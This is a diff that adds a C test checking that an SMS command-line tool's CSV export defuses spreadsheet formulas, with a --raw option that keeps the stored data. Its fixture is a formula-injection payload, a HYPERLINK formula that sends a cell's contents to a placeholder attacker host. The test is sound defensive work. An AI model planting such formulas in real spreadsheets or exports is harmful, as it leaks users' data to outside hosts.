@@ -13,6 +13,8 @@
 #include <json-glib/json-glib.h>
 
 #include "sr-core.h"
+#include "sr-campaign-private.h"
+#include "sr-message-private.h"
 #include "sr-test-sandbox.h"
 
 typedef struct
@@ -349,6 +351,115 @@ test_login_keyring (Fixture       *fixture,
   g_assert_cmpint (run_cli (fixture, NULL, NULL, NULL, &out, &err, "stats", NULL), ==, 2);
 }
 
+/* The cache file the CLI opens for the sandbox account. */
+static char *
+dup_account_db_path (Fixture *fixture)
+{
+  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
+  g_autofree char *name = sr_cache_dup_account_file_name (sr_test_sandbox_get_url (fixture->sandbox), key);
+
+  g_assert_cmpint (g_mkdir_with_parents (fixture->data_dir, 0700), ==, 0);
+  return g_build_filename (fixture->data_dir, name, NULL);
+}
+
+/* messages/campaigns --format csv neutralise cells a spreadsheet would run
+ * as formulas; --raw gives the stored data; --raw is only for CSV. */
+static void
+test_csv_formulas (Fixture       *fixture,
+                   gconstpointer  data)
+{
+  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
+  const char *formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")";
+  g_autofree char *db_path = dup_account_db_path (fixture);
+  g_autoptr(SrCache) cache = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autoptr(GPtrArray) messages = g_ptr_array_new_with_free_func (g_object_unref);
+  g_autoptr(GPtrArray) campaigns = g_ptr_array_new_with_free_func (g_object_unref);
+  g_autofree char *out = NULL;
+  g_autofree char *err = NULL;
+  SrMessage *message;
+  SrCampaign *campaign;
+
+  cache = sr_cache_open (db_path, &error);
+  g_assert_no_error (error);
+  message = sr_message_new_empty ();
+  message->id = g_strdup ("m-1");
+  message->to = g_strdup ("+447700900123");
+  message->sender_id = g_strdup ("@Shop");
+  message->message = g_strdup (formula);
+  message->failed_reason = g_strdup ("-ERR");
+  message->status_raw = g_strdup ("DELIVERED");
+  message->status = SR_STATUS_DELIVERED;
+  message->created_at = G_GINT64_CONSTANT (1772000000) * G_USEC_PER_SEC;
+  message->cost = -0.25;
+  message->sms_count = 1;
+  g_ptr_array_add (messages, message);
+  campaign = sr_campaign_new_empty ();
+  campaign->id = g_strdup ("c-1");
+  campaign->sender_id = g_strdup ("Shop");
+  campaign->message = g_strdup ("\t=1+1");
+  campaign->created_at = G_GINT64_CONSTANT (1772000000) * G_USEC_PER_SEC;
+  g_ptr_array_add (campaigns, campaign);
+  g_assert_true (sr_cache_upsert_messages (cache, messages, NULL, NULL, NULL, &error));
+  g_assert_no_error (error);
+  g_assert_true (sr_cache_upsert_campaigns (cache, campaigns, NULL, NULL, &error));
+  g_assert_no_error (error);
+  sr_cache_close (cache);
+
+  /* For spreadsheets (the default) */
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "messages", "--format", "csv", NULL), ==, 0);
+  {
+    g_autoptr(GPtrArray) rows = parse_csv (out);
+    g_autofree char *expected = g_strconcat ("'", formula, NULL);
+
+    g_assert_cmpuint (rows->len, ==, 2);
+    g_assert_cmpstr (cell (rows, 1, 0), ==, "m-1");
+    g_assert_cmpstr (cell (rows, 1, 4), ==, "'+447700900123");
+    g_assert_cmpstr (cell (rows, 1, 5), ==, "'@Shop");
+    g_assert_cmpstr (cell (rows, 1, 8), ==, "-0.25");
+    g_assert_cmpstr (cell (rows, 1, 10), ==, "'-ERR");
+    g_assert_cmpstr (cell (rows, 1, 11), ==, expected);
+  }
+  g_clear_pointer (&out, g_free);
+
+  /* Exact data for scripts */
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "messages", "--format", "csv", "--raw", NULL), ==, 0);
+  {
+    g_autoptr(GPtrArray) rows = parse_csv (out);
+
+    g_assert_cmpuint (rows->len, ==, 2);
+    g_assert_cmpstr (cell (rows, 1, 4), ==, "+447700900123");
+    g_assert_cmpstr (cell (rows, 1, 5), ==, "@Shop");
+    g_assert_cmpstr (cell (rows, 1, 10), ==, "-ERR");
+    g_assert_cmpstr (cell (rows, 1, 11), ==, formula);
+  }
+  g_clear_pointer (&out, g_free);
+
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "campaigns", "--format", "csv", NULL), ==, 0);
+  {
+    g_autoptr(GPtrArray) rows = parse_csv (out);
+
+    g_assert_cmpuint (rows->len, ==, 2);
+    g_assert_cmpstr (cell (rows, 1, 2), ==, "Shop");
+    g_assert_cmpstr (cell (rows, 1, 12), ==, "'\t=1+1");
+  }
+  g_clear_pointer (&out, g_free);
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "campaigns", "--format", "csv", "--raw", NULL), ==, 0);
+  {
+    g_autoptr(GPtrArray) rows = parse_csv (out);
+
+    g_assert_cmpstr (cell (rows, 1, 12), ==, "\t=1+1");
+  }
+  g_clear_pointer (&out, g_free);
+
+  /* JSON and tables are not for spreadsheets: --raw is a usage error there */
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, &err, "messages", "--format", "json", "--raw", NULL), ==, 1);
+  g_assert_nonnull (strstr (err, "--raw"));
+  g_clear_pointer (&err, g_free);
+  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, NULL, &err, "campaigns", "--raw", NULL), ==, 1);
+  g_assert_nonnull (strstr (err, "--raw"));
+}
+
 static void
 test_exit_codes (Fixture       *fixture,
                  gconstpointer  data)
@@ -399,6 +510,7 @@ main (int    argc,
   g_test_add ("/cli/end-to-end", Fixture, NULL, fixture_set_up, test_end_to_end, fixture_tear_down);
   g_test_add ("/cli/login-keyring", Fixture, NULL, fixture_set_up, test_login_keyring, fixture_tear_down);
   g_test_add ("/cli/exit-codes", Fixture, NULL, fixture_set_up, test_exit_codes, fixture_tear_down);
+  g_test_add ("/cli/csv-formulas", Fixture, NULL, fixture_set_up, test_csv_formulas, fixture_tear_down);
 
   return g_test_run ();
 }
